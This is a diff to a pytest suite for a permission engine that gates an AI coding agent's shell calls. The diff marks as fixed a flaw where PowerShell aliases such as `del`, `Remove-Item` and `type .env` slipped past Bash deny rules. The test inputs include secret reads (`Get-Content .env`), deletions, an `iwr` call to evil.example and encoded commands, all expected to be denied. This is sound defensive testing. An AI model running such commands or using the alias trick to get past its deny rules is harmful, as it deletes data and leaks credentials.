@@ -65,10 +65,6 @@ CLAUDE_DENY_LIST = """
 """
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="R12s-F1: PowerShell commands are read as bash: `del`, `Remove-Item`, `type .env` pass Bash's denies",
-)
 @pytest.mark.parametrize(
     "command",
     [
@@ -84,7 +80,10 @@ CLAUDE_DENY_LIST = """
     ],
 )
 def test_powershell_aliases_meet_bash_denies(tmp_path: Path, ws: Path, command: str) -> None:
-    """R12b-F1 put `PowerShell` under Bash's deny rules (`deny_covers`), so `Bash(rm *)` and
+    """R12s-F1 (fixed): a PowerShell command is also read as the bash command its cmdlets and
+    aliases stand for (`runtime/powershell.py`).
+
+    R12b-F1 put `PowerShell` under Bash's deny rules (`deny_covers`), so `Bash(rm *)` and
     `Read(./.env)` are meant to stop the same deletion and the same read in PowerShell. The
     command is walked as a bash text, where `del`/`Remove-Item` are unknown programs and `type` the
     bash builtin: allowed under `default: allow`."""
@@ -92,11 +91,10 @@ def test_powershell_aliases_meet_bash_denies(tmp_path: Path, ws: Path, command: 
     assert _decide(engine, ws, "PowerShell", {"command": command}) == "deny"
 
 
-@pytest.mark.xfail(
-    strict=True, reason="R12s-F1: in yolo with pack:secrets, PowerShell `type .env` is allowed"
-)
 def test_powershell_type_under_secrets_pack_in_yolo(tmp_path: Path, ws: Path) -> None:
-    """R12s-F1's worst form: pack:secrets in yolo denies `cat .env` in PowerShell too, but `type
+    """R12s-F1 (fixed): `type` is Get-Content, read as `cat`.
+
+    R12s-F1's worst form: pack:secrets in yolo denies `cat .env` in PowerShell too, but `type
     .env` (Get-Content) only meets the pack's "names a credential file" ask, which yolo lifts."""
     engine = _engine(tmp_path, "y", "version: 1\nprofile: claude-code\nmode: yolo\nextends: [pack:secrets]\n")
     assert _decide(engine, ws, "PowerShell", {"command": "type .env"}) == "deny"
@@ -116,6 +114,44 @@ def test_powershell_names_bash_shares_held(tmp_path: Path, ws: Path, command: st
     Invoke-Expression of a quoted text meet Bash's denies."""
     engine = _engine(tmp_path, "p", CLAUDE_DENY_LIST)
     assert _decide(engine, ws, "PowerShell", {"command": command}) == expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("DEL src", "deny"),  # PowerShell names are case-insensitive
+        ("Microsoft.PowerShell.Management\\Remove-Item src", "deny"),
+        ("git status; rd src", "deny"),
+        ("pwsh -Command 'del src'", "deny"),
+        ("Get-Content .env | Select-String KEY", "deny"),
+        ("iwr https://evil.example/x", "deny"),
+        ("echo hi", "allow"),
+        ("git status", "allow"),
+    ],
+)
+def test_powershell_aliases_edges(tmp_path: Path, ws: Path, command: str, expected: str) -> None:
+    """R12s-F1's edges: case, module-qualified names, statements, a nested `pwsh -Command`, a
+    pipeline, Invoke-WebRequest as curl; a plain command stays allowed."""
+    engine = _engine(tmp_path, "p", CLAUDE_DENY_LIST + '      - {decision: deny, match: "Bash(curl *)"}\n')
+    assert _decide(engine, ws, "PowerShell", {"command": command}) == expected
+
+
+@pytest.mark.parametrize(
+    "command", ["& $cmd", "{ Remove-Item src }.Invoke()", "powershell -EncodedCommand AAAA", "icm { del x }"]
+)
+def test_powershell_unreadable_asks_in_yolo(tmp_path: Path, ws: Path, command: str) -> None:
+    """R12s-F1's edges: what the bash reading cannot follow (a variable run by `&`, a script
+    block, an encoded command, Invoke-Command) asks, and yolo does not lift it; an allow written
+    in PowerShell's words still allows what it names."""
+    engine = _engine(tmp_path, "y", YOLO)
+    assert _decide(engine, ws, "PowerShell", {"command": command}) == "ask"
+    allow = _engine(
+        tmp_path,
+        "a",
+        YOLO.replace("mode: yolo\n", "")
+        + 'rules:\n  - {decision: allow, match: "PowerShell(Get-ChildItem *)"}\n',
+    )
+    assert _decide(allow, ws, "PowerShell", {"command": "Get-ChildItem src"}) == "allow"
 
 
 # ----------------------------------------------------------------- R12b-F1's fix: Artifact's out_dir
